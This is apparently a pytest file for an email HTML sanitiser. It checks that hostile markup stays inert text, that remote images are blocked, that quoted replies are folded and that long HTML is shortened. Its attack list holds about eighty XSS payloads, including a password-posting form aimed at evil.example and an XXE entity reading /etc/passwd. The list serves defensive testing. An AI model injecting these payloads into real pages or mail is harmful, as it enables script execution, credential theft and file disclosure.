"""HTML of mails: attacks stay text, pictures stay away, quotes are folded and never lost."""

# ruff: noqa: E501, RUF001 (mails stand here as they come)

import base64

import pytest

from actions.texts import sanitised
from mail.parse import parse
from tests.mail.mails import check, check_html, encoded, mail, multipart, nested, part, read

PIXEL = base64.b64decode(b"R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img alt="<img src=x onerror=alert(1)>" src=cid:none>',
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    '<img """><script>alert(1)</script>">',
    "<img srcset='http://evil.example/1 1x' src=cid:x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#0000106&#0000097vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,x'>x</a><a href='file:///etc'>x</a>",
    "<a href='//evil.example'>x</a><a href='/graphql?query'>x</a>",
    "<a href='sms:1'>x</a><a href='ssh://x'>x</a><a href='magnet:x'>x</a><a href='blob:x'>x</a>",
    "<a href=http://x.example onclick=alert(1) target=_top ping=//evil.example>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background-color:url(//evil.example)'>x</div>",
    "<div style='color:expression(alert(1))'>x</div>",
    "<div style='color:e\\78pression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99'>x</div>",
    "<div style='color:red;/**/background-image:u/**/rl(//evil.example)'>x</div>",
    "<div style='width:calc(1px);--x:url(//evil.example)'>x</div>",
    "<div style=\"font-family:'</style><script>alert(1)</script>'\">x</div>",
    "<body onload=alert(1) background=//evil.example/x.gif>x</body>",
    "<table background=//evil.example/x.gif><tr><td background=//evil.example>x</table>",
    "<video src=//evil.example poster=//evil.example><source onerror=alert(1)></video>",
    "<audio src=//evil.example onerror=alert(1)>",
    "<input type=image src=//evil.example onerror=alert(1)>",
    "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=//evil.example>x</q>",
    "<p id=x class=y name=z contenteditable data-x=y slot=z is=x-y>x</p>",
    "<x-element onclick=alert(1)>x</x-element><o:p>x</o:p>",
    "<custom/><plaintext><script>alert(1)</script>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=alert(1)>'>",
    "<bdo dir=rtl>x</bdo><map name=x><area href=javascript:alert(1)></map>",
    "<ANY onmouseover=alert(1) <b>x</ANY>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    '<img src="data:image/png;base64,AAAA" onerror=alert(1)>',
    "<img src='cid:\" onerror=alert(1) x=\"'>",
    "<span class='gmail_quote\"><script>'>x</span><div id='\"><img src=x onerror=alert(1)>'>y</div>",
    '<a href="http://x.example/&quot;onmouseover=alert(1)">x</a>',
    "\x00<\x00script>alert(1)</script>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "\ufeff<ſcript>alert(1)</ſcript><ımg src=x>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("charset", ["utf-8", "utf-7", "x-unknown"])
def test_attacks_stay_text(attack: str, charset: str) -> None:
    """Alone, and where a quote is folded; and once more cleaned as an entry's body is."""
    for body in (attack, f"<p>Hi</p><div class=gmail_quote><blockquote>{attack}<p>y</blockquote>"):
        message = parse(mail(body, content_type=f"text/html; charset={charset}"))
        check(message)
        check_html(sanitised(message.html).html, {one.content_id for one in message.files})
    plain = parse(mail(attack, content_type=f"text/plain; charset={charset}"))
    check(plain)
    assert set(check_html(plain.html, set())) <= {"div", "br", "a"}


def test_html_only() -> None:
    """Case 31."""
    message = parse(
        mail(
            "<html><head><title>T</title><style>p{}</style></head><body><p>Hello <b>you</b></p>"
            "<script>x</script><a href='javascript:x'>go</a><svg><text>s</text></svg>"
            "<img src='https://track.example/p.gif?u=1' width=1 height=1 alt=''></body></html>",
            content_type="text/html",
        )
    )
    check(message)
    assert message.text.startswith("Hello you\ngo")
    assert "track.example" in read(message.html)
    assert "p.gif" not in message.html
    assert "img" not in check_html(message.html, set())
    assert message.notes == ("images of other servers were not loaded: 1",)


@pytest.mark.parametrize(
    ("html", "words"),
    [
        (
            "<textarea rows=2>Dear desk, a&lt;b <i>and</i> c</textarea>!",
            "Dear desk, a<b <i>and</i> c!",
        ),
        ("<object data=x.pdf type=a/b><p>See <b>this</b></p></object>!", "See this!"),
        ("<applet code=x>No Java</applet>!", "No Java!"),
        ("<noframes><body>Without frames</body></noframes>!", "Without frames!"),
        (
            "<xmp>if a<b then &amp; <script>alert(1)</script></xmp>!",
            "if a<b then &amp; <script>alert(1)</script>!",
        ),
        ("<textarea>not closed", "not closed"),
    ],
)
def test_words_of_elements_that_are_not_shown_stay(html: str, words: str) -> None:
    message = parse(mail(html, content_type="text/html"))
    check(message)
    assert read(message.html) == words
    assert " ".join(message.text.split()).replace(" !", "!") == words


def test_a_picture_of_the_mail_is_listed_once() -> None:
    """Case 32."""
    html = "<p>See <img src='CID:pic%40x' alt=A> and <img src=cid:gone alt='the plan'></p>"
    message = parse(
        multipart(
            "mixed",
            nested(
                "related",
                part("text/html", html),
                encoded("image/gif", PIXEL, "Content-ID: <pic@x>", "Content-Disposition: inline"),
            ),
            encoded("image/gif; name=copy.gif", PIXEL, "Content-Disposition: attachment"),
            encoded("image/gif; name=other.gif", PIXEL + b"x", "Content-ID: <unused@x>"),
        )
    )
    check(message)
    assert [(one.name, one.inline, one.content_id) for one in message.files] == [
        ("attachment-1.gif", True, "pic@x"),
        ("other.gif", False, ""),
    ]
    assert '<img src="cid:pic@x" alt="A">' in message.html
    assert "image missing: the plan" in read(message.html)
    assert 'src="cid:pic@x"' in sanitised(message.html).html


def test_an_image_written_into_the_html() -> None:
    data = base64.b64encode(PIXEL).decode()
    html = f'<p>x<img src="data:image/gif;base64,{data}"></p>'
    message = parse(mail(html, content_type="text/html"))
    check(message)
    (file,) = message.files
    assert file.content == PIXEL
    assert file.inline
    assert f'src="cid:{file.content_id}"' in message.html


def test_links_are_limited() -> None:
    body = "".join(f"<a href='http://x.example/{n}'>a</a> " for n in range(6000))
    message = parse(mail(body, content_type="text/html"))
    check(message)
    assert message.html.count("href=") <= 5000
    assert message.notes


@pytest.mark.parametrize(
    "unit",
    [
        "<b>x",
        "<p>",
        "<div>",
        "<table><tr><td>",
        "<a href=x>",
        "<",
        "<!--",
        "<title>",
        "<img src=x>",
        "&",
        "<script>",
        "<font>",
        "<blockquote>x",
        "</p>",
        "<p style='color:red'>",
        '"',
        "<i ",
    ],
)
def test_long_html_is_shortened_and_kept(unit: str) -> None:
    body = "<p>Hello</p>" + unit * (600_000 // len(unit))
    message = parse(mail(body, content_type="text/html"))
    check(message)
    assert message.text.startswith("Hello")
    shortened = "shortened here; the whole text is attached" in message.notes
    assert shortened == any(len(one.content) >= len(body) - 2 for one in message.files)
    assert shortened or unit not in ("<p>", "<", "&", "</p>", '"', "<table><tr><td>")
